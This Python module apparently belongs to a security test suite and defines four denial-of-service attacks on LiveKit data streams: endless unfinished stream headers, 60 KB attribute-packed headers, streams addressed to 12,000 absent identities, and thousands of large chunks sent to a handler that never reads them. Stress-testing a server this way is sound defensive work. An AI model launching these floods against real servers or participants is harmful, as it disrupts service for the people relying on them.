"""Attacks with data streams, on the victim and on the server that carries them."""

from __future__ import annotations

from itertools import count, islice, product
from string import ascii_letters
from typing import Any, Final

from livekit.protocol import models

from ...support.stream_packets import text_header
from .base import VICTIM, Attack, Attacker, Connection

DataStream = models.DataStream

_BATCH: Final = 200
_ATTRIBUTES: Final = {f"{number}": "x" * 900 for number in range(65)}
_DESTINATIONS: Final = 12_000
#: So short that as many fit into a packet: a larger one is dropped before anybody counts.
_IDENTITIES: Final = tuple(map("".join, islice(product(ascii_letters, repeat=3), _DESTINATIONS)))
_CHUNK: Final = b"x" * 15_000
_CHUNKS: Final = 1_000


def _header(name: str, **fields: Any) -> models.DataPacket:
    header = text_header(name, topic="notes", **fields)
    return models.DataPacket(destination_identities=[VICTIM], stream_header=header)


async def headers(attacker: Attacker) -> None:
    """Open streams and never end them."""
    numbers = count()

    async def act(connection: Connection) -> None:
        await connection.send_packets(*(_header(f"{next(numbers)}") for _ in range(_BATCH)))

    await attacker.keep_joined(act)


async def headers_of_60_kb(attacker: Attacker) -> None:
    """Open streams with as many attributes as a packet holds."""
    numbers = count()

    async def act(connection: Connection) -> None:
        await connection.send_packets(_header(f"{next(numbers)}", attributes=_ATTRIBUTES))

    await attacker.keep_joined(act)


async def many_destinations(attacker: Attacker) -> None:
    """Open streams to thousands who are not there, and some to as many as may be named."""
    numbers = count()

    async def act(connection: Connection) -> None:
        for size in (_DESTINATIONS, 1_000):
            header = text_header(f"{next(numbers)}", topic="notes")
            packet = models.DataPacket(
                destination_identities=_IDENTITIES[:size], stream_header=header
            )
            await connection.send_packets(packet)

    await attacker.keep_joined(act)


async def unread_content(attacker: Attacker) -> None:
    """Send streams to a handler that does not read them."""
    numbers = count()

    async def act(connection: Connection) -> None:
        name = f"{next(numbers)}"
        header = text_header(name, topic="unread")
        destination = [VICTIM]
        await connection.send_packets(
            models.DataPacket(destination_identities=destination, stream_header=header)
        )
        for index in range(_CHUNKS):
            chunk = DataStream.Chunk(stream_id=name, chunk_index=index, content=_CHUNK)
            await connection.send_packets(
                models.DataPacket(destination_identities=destination, stream_chunk=chunk)
            )

    await attacker.keep_joined(act)


ATTACKS: Final = {
    "stream headers": Attack(headers),
    "stream headers of 60 KB": Attack(headers_of_60_kb),
    "12,000 destinations": Attack(many_destinations),
    "streams that nobody reads": Attack(unread_content),
}
